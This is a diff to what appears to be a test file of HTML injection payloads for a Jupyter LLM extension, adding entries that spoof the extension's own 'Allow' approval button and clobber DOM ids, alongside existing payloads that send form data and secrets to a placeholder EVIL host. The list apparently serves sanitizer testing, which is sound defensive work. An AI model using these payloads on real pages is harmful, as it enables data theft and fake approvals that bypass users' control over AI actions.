@@ -72,6 +72,11 @@ STYLES = (
     "<div style='position:fixed;inset:0;background:url(EVIL/bg.png)' class='jp-Dialog' id=main name=x>a cover</div>",
     "<p style='list-style-image:url(EVIL/l.png);animation:x' class='jp-mod-accept'>p</p><font style=x:expression(RUN)>f</font>",
 )
+OURS = (
+    "<b class='jp-llmhub-button jp-mod-accept jp-Button' data-testid=llmhub-approve role=button tabindex=0 onclick=RUN>Allow</b>",
+    "<a id=jupyterapp name=ran href='EVIL/c'>a</a><img name=body id=main src=x onerror=RUN><output id=ran name=ran>o</output>",
+)
+"""As if they were a button or a part of ours."""
 FORMS = (
     "<form action='EVIL/form'><input name=q value=secret autofocus onfocus='RUN'><button>Send</button></form>",
     "<form id=f></form><button form=f formaction='javascript:RUN'>b</button><input type=submit form=f formaction=EVIL/submit>",
@@ -113,7 +118,7 @@ MATHEMATICS = (
 )
 PAYLOADS = (
     *(SCRIPTS + SVG + MUTATING + MATHML),
-    *(LINKS + IMAGES + STYLES + FORMS + COMMANDS),
+    *(LINKS + IMAGES + STYLES + OURS + FORMS + COMMANDS),
     *(TRICKS + MERMAID + MATHEMATICS),
 )
 
